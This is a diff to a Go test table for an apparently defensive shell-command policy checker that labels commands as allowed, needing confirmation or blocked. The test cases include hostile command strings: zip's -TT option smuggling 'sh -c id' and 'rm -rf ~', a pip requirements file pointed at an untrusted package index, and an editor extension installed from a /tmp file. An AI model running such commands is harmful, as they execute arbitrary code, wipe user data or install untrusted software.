@@ -20,6 +20,9 @@ func TestLeftovers63(t *testing.T) {
 		{`zip x.zip f -T -TT"sh -c id"`, dsl.Ask, dsl.Ask},
 		{`zip x.zip f -T -TT'rm -rf ~'`, dsl.Block, dsl.Block},
 		{"zip -r x.zip src", dsl.Allow, dsl.Allow},
+		// a requirements file's index is pip's (rt63)
+		{"echo '--index-url http://x.example/simple' > r.txt && pip install -r r.txt", dsl.Ask, dsl.Ask},
+		{"echo 'flask==3.0' > r.txt && pip install -r r.txt", dsl.Allow, dsl.Allow},
 		// an editor extension from a file, for an agent (rt61)
 		{"code --install-extension /tmp/x.vsix", dsl.Allow, dsl.Ask},
 		{"code --install-extension ms-python.python", dsl.Allow, dsl.Allow},
